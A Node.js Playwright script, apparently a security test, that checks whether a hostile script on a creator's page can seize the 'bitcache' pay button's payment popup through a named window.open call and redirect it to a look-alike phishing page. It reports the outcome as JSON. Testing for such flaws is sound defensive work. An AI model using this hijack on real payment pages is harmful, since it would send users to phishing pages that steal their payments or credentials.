#!/usr/bin/env node
// Another script on a creator's page (an ad, a widget) against the pay
// button's popup: after a click opened the host's 402 page in the popup,
// the page asks window.open('', 'bitcache') for it and sends it to a page
// of its own (a look-alike payment page). Prints JSON: the popup's URL
// before and after, and whether the page got a handle.
//
//   node popup-hijack.js CREATOR_URL PHISH_URL [--allow ORIGIN]...
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const { chromium } = require('playwright-core');

const args = process.argv.slice(2);
const url = args.shift();
const phish = args.shift();
const allow = [new URL(url).origin];
while (args.length) {
  const a = args.shift();
  if (a === '--allow') allow.push(new URL(args.shift()).origin);
}

(async () => {
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'bitcache-chromium-'));
  const out = {};
  let ctx;
  try {
    ctx = await chromium.launchPersistentContext(dataDir, {
      executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
      headless: true,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
             '--disable-background-networking', '--disable-component-update', '--disable-sync'],
      timeout: 30000,
    });
    await ctx.route('**/*', (route) => {
      const u = route.request().url();
      if (allow.includes(new URL(u).origin)) return route.continue();
      return route.abort();
    });
    const page = ctx.pages()[0] || await ctx.newPage();
    await page.goto(url, { waitUntil: 'load' });
    await page.waitForSelector('a.bitcache-button.bitcache-ready', { timeout: 5000 }).catch(() => null);
    const popupP = ctx.waitForEvent('page', { timeout: 5000 });
    await page.click('a.bitcache-button');
    const p = await popupP;
    await p.waitForFunction(() => location.href !== 'about:blank', null, { timeout: 15000 }).catch(() => null);
    await p.waitForLoadState('load');
    out.before = p.url();
    out.handle = await page.evaluate((to) => {
      const w = window.open('', 'bitcache');
      if (!w) return 'none';
      let same = false;
      try { same = w.location.href === 'about:blank'; } catch (e) { same = false; }
      if (same) { w.close(); return 'a new window'; }
      w.location.href = to;
      return 'the popup';
    }, phish);
    await p.waitForTimeout(1500);
    out.after = p.isClosed() ? 'closed' : p.url();
    out.pages = ctx.pages().map((x) => x.url());
    out.ok = true;
  } catch (e) {
    out.ok = false;
    out.error = String(e && e.message || e).split('\n')[0];
  } finally {
    if (ctx) await ctx.close().catch(() => {});
    fs.rmSync(dataDir, { recursive: true, force: true });
  }
  process.stdout.write(JSON.stringify(out) + '\n');
  process.exit(out.ok ? 0 : 1);
})();
